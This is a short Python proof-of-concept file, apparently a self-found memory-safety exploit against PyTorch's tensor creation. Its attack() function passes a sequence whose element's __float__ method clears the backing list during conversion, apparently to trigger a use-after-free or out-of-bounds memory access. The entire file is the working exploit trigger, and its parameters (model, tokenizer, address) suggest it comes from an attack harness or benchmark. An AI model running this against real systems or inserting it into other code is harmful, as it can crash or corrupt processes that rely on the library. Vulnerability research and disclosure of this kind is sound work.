"""Class: memory. Source: own find. Escape: the same, with the list inside a sequence of the
technique."""

import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


class Outer:
    def __len__(self):
        return 1

    def __getitem__(self, i):
        if i:
            raise IndexError
        return data


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    torch.tensor(Outer(), dtype=torch.float64)
